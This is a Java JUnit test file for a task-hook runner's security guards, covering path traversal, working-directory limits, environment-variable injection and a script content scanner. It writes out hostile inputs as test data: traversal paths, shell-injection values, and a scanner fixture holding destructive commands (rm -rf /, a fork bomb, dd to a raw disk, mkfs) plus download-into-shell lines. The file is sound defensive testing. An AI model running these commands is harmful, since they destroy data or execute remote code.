package io.taskhooks.core.exec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.taskhooks.core.error.SecurityViolationException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GuardsTest {

    @TempDir
    Path root;

    @Nested
    @DisplayName("ScriptPathGuard")
    class ScriptPaths {

        @Test
        void resolvesInsideBase() {
            ScriptPathGuard guard = new ScriptPathGuard(root);
            assertThat(guard.resolve("h", "sub/run.sh")).isEqualTo(root.toAbsolutePath().resolve("sub/run.sh"));
        }

        @ParameterizedTest
        @ValueSource(strings = {"../x.sh", "a/../../x.sh", "/etc/passwd", "", "  "})
        void rejectsEscapes(String ref) {
            ScriptPathGuard guard = new ScriptPathGuard(root);
            assertThatThrownBy(() -> guard.resolve("h", ref))
                    .isInstanceOf(SecurityViolationException.class)
                    .satisfies(e -> assertThat(((SecurityViolationException) e).hookName()).isEqualTo("h"));
        }

        @Test
        @EnabledOnOs({OS.LINUX, OS.MAC})
        void rejectsSymlinkOutOfBase() throws IOException {
            Path base = Files.createDirectories(root.resolve("hooks"));
            Path outside = Files.writeString(root.resolve("secret.sh"), "echo\n");
            Files.createSymbolicLink(base.resolve("link.sh"), outside);

            assertThatThrownBy(() -> new ScriptPathGuard(base).resolve("h", "link.sh"))
                    .isInstanceOf(SecurityViolationException.class)
                    .hasMessageContaining("links outside");
        }
    }

    @Nested
    @DisplayName("WorkingDirectoryGuard")
    class WorkingDirectories {

        @Test
        void blankMeansRoot() {
            WorkingDirectoryGuard guard = new WorkingDirectoryGuard(root);
            assertThat(guard.resolve("h", null)).isEqualTo(root.toAbsolutePath().normalize());
            assertThat(guard.resolve("h", " ")).isEqualTo(root.toAbsolutePath().normalize());
        }

        @Test
        void relativeInsideRoot() {
            assertThat(new WorkingDirectoryGuard(root).resolve("h", "a/b")).startsWith(root.toAbsolutePath());
        }

        @ParameterizedTest
        @ValueSource(strings = {"..", "a/../../..", "/"})
        void outsideRootIsRejected(String wd) {
            assertThatThrownBy(() -> new WorkingDirectoryGuard(root).resolve("h", wd))
                    .isInstanceOf(SecurityViolationException.class);
        }
    }

    @Nested
    @DisplayName("EnvironmentGuard")
    class Environment {

        @Test
        void plainValuesPass() {
            EnvironmentGuard.check("h", Map.of("CHANNEL", "builds", "URL", "https://x.test/a?b=c"));
        }

        @ParameterizedTest
        @ValueSource(strings = {"a;b", "a|b", "a&b", "$HOME", "`id`", "$(id)", "a>b", "a<b"})
        void metacharactersAreRejected(String value) {
            assertThatThrownBy(() -> EnvironmentGuard.check("h", Map.of("X", value)))
                    .isInstanceOf(SecurityViolationException.class);
        }

        @ParameterizedTest
        @ValueSource(strings = {"1X", "A-B", "A B", ""})
        void invalidNamesAreRejected(String name) {
            assertThatThrownBy(() -> EnvironmentGuard.check("h", Map.of(name, "v")))
                    .isInstanceOf(SecurityViolationException.class)
                    .hasMessageContaining("name");
        }
    }

    @Nested
    @DisplayName("ScriptContentScanner")
    class Scanner {

        @Test
        void benignScriptHasNoFindings() {
            assertThat(ScriptContentScanner.scan("#!/bin/sh\nrm -rf ./build\necho done\n")).isEmpty();
        }

        @Test
        void dangerousPatternsAreReported() {
            String script = """
                    rm -rf /
                    :(){ :|:& };:
                    wget -qO- http://x.test/install | bash
                    dd if=/dev/zero of=/dev/sda
                    mkfs.ext4 /dev/sdb1
                    chmod -R 777 /
                    eval "$(curl http://x.test)"
                    """;
            assertThat(ScriptContentScanner.scan(script))
                    .contains(
                            "recursive delete of /",
                            "fork bomb",
                            "piping a download into a shell",
                            "raw disk write",
                            "filesystem format",
                            "world-writable root",
                            "eval of command substitution");
        }
    }
}
